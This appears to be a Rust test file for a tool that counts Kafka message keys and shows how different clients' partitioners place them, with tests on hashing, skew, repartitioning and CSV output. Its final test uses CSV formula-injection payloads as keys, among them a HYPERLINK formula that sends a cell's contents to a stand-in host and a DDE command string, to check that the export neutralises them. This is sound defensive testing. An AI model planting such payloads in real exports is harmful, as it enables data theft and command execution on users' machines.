//! Keys, counted and placed.

use super::*;

const JAVA: Rule = Rule { client: Client::Java, partitioner: Partitioner::BuiltIn };
const C: Rule = Rule { client: Client::Librdkafka, partitioner: Partitioner::ConsistentRandom };

fn ask(other: Option<Rule>, then: Option<u32>) -> Ask {
    Ask { rule: JAVA, partitions: 6, other, then }
}

#[test]
fn lines_are_keys_as_they_stand() {
    let keys = KeyCounts::of_lines("UA\n\n B6 \nUA\r\nUA\nB6\n");
    let found: Vec<_> =
        keys.entries().iter().map(|(key, n)| (std::str::from_utf8(key).unwrap(), *n)).collect();
    assert_eq!(found, [("UA", 3), (" B6 ", 1), ("B6", 1)]);
    assert_eq!(keys.records(), 5);
    assert_eq!(KeyCounts::of_lines("").entries(), []);
}

#[test]
fn many_keys_are_told_apart() {
    let text: Vec<String> = (0..50_000).map(|i| format!("key-{}", i % 20_000)).collect();
    let keys = KeyCounts::of_lines(&text.join("\n"));
    assert_eq!(keys.entries().len(), 20_000);
    assert_eq!(keys.entries()[9_999], (b"key-9999".to_vec(), 3));
    assert_eq!(keys.entries()[10_000], (b"key-10000".to_vec(), 2));
    assert_eq!(keys.hottest(3, |_| true), [0, 1, 2]);
    assert_eq!(keys.hottest(2, |at| at >= 9_999), [9_999, 10_000]);
    assert_eq!(keys.hottest(usize::MAX, |_| true).len(), 20_000);
}

/// The values of CRC-32 are zlib's.
#[test]
fn two_clients_place_one_key_each_by_its_own_arithmetic() {
    let keys = KeyCounts::of_lines("UA\nAA");
    let sheet = Sheet::new(&keys, ask(Some(C), None));
    let numbers = |it: KeyArithmetic| (it.shown_hash(), it.folded, it.partition());
    assert_eq!(numbers(sheet.rows[0].here.unwrap()), (-624_396_550, 1_523_087_098, 4));
    assert_eq!(numbers(sheet.rows[0].other.unwrap()), (2_278_476_520, 2_278_476_520, 4));
    assert_eq!(sheet.rows[1].other.unwrap().hash, 2_841_648_573);
    assert_eq!(sheet.rows[1].other.unwrap().partition(), 3);
    assert!(!sheet.rows[0].differs());
    let differ = u64::from(sheet.rows[1].differs());
    assert_eq!(sheet.differ, Tally { keys: differ, records: differ });
}

#[test]
fn moves_and_skew_are_counted_by_keys_and_records() {
    let keys = KeyCounts::of_lines("UA\nUA\nUA\nB6\nDL\nAA\nEV\nMQ");
    let sheet = Sheet::new(&keys, ask(None, Some(12)));
    let spread = sheet.spread.as_ref().unwrap();
    assert_eq!(spread.records.iter().sum::<u64>(), 8);
    assert_eq!(spread.most(), *spread.records.iter().max().unwrap());
    assert!((spread.mean() - 8.0 / 6.0).abs() < 1e-9);
    let moved: u64 = sheet.rows.iter().filter(|row| row.moves()).count() as u64;
    assert_eq!(sheet.moved.keys, moved);
    for row in &sheet.rows {
        // From 6 to 12 a key stays, or goes six further.
        let (from, to) = (row.here.unwrap().partition(), row.then.unwrap());
        assert!(to == from || to == from + 6, "{from} → {to}");
    }
}

#[test]
fn records_without_a_key_are_part_of_the_whole() {
    let keys =
        KeyCounts::of([Some(&b"UA"[..]), None, Some(b"B6"), None, Some(b"UA"), None, None].into_iter());
    assert_eq!((keys.records(), keys.keyless(), keys.entries().len()), (3, 4, 2));
    let percent = keys.percent(Tally { keys: 1, records: 2 });
    assert!((percent - 200.0 / 7.0).abs() < 1e-9, "{percent}");
}

#[test]
fn where_keys_do_not_decide_there_is_no_spread() {
    let keys = KeyCounts::of_lines("UA\nB6");
    let turn = Rule { client: Client::KafkaGo, partitioner: Partitioner::KafkaGoRoundRobin };
    let sheet = Sheet::new(&keys, Ask { rule: turn, other: Some(C), ..ask(None, Some(8)) });
    assert_eq!((sheet.spread, sheet.then_spread), (None, None));
    assert!(sheet.other_spread.is_some());
    assert_eq!((sheet.differ, sheet.moved), (Tally::default(), Tally::default()));
}

#[test]
fn a_csv_reader_gets_every_key_back() {
    let keys: [&[u8]; 6] = [b"UA", b"a,b", b"say \"hi\"", b" edge", b"two\nlines", &[0xff, 0]];
    let keys = KeyCounts::of(keys.into_iter().map(Some));
    let ask = ask(Some(C), Some(8));
    let csv = Sheet::new(&keys, ask).csv(&keys, ask);
    let lines: Vec<&str> = csv.split("\r\n").collect();
    let head = "key,key_hex,records,client,partitioner,hash_function,hash,folded,partitions,partition,\
                other_client,other_partitioner,other_hash_function,other_hash,other_folded,other_partition,\
                partitions_then,partition_then,moves";
    assert_eq!(lines[0], head);
    let first = "UA,5541,1,java,BuiltInPartitioner,murmur2,-624396550,1523087098,6,4,librdkafka,";
    assert!(lines[1].starts_with(first), "{}", lines[1]);
    for (line, start) in
        [(2, "\"a,b\",612c62,"), (3, "\"say \"\"hi\"\"\","), (4, "\" edge\","), (5, "\"two\nlines\",")]
    {
        assert!(lines[line].starts_with(start), "{}", lines[line]);
    }
    assert!(lines[6].starts_with("\\xff\\x00,ff00,1,"), "{}", lines[6]);
    let columns = head.split(',').count();
    assert_eq!(lines[1].split(',').count(), columns);
    assert_eq!((lines.len(), lines[7]), (8, ""));
}

#[test]
fn no_key_is_a_formula_in_a_spreadsheet() {
    let attack: [&[u8]; 8] = [
        b"=1+1",
        b"+49 30",
        b"-2",
        b"@SUM(A1)",
        b"\t=1",
        b"\r=1",
        b"=HYPERLINK(\"http://a.example?\"&A1,\"b\")",
        b"=cmd|' /C calc'!A0",
    ];
    let keys = KeyCounts::of(attack.into_iter().map(Some));
    let csv = Sheet::new(&keys, ask(None, None)).csv(&keys, ask(None, None));
    for line in csv.split("\r\n").skip(1).filter(|line| !line.is_empty()) {
        assert!(line.trim_start_matches('"').starts_with('\''), "{line}");
    }
    assert!(csv.contains(",3d312b31,"), "the bytes stay exact");
}
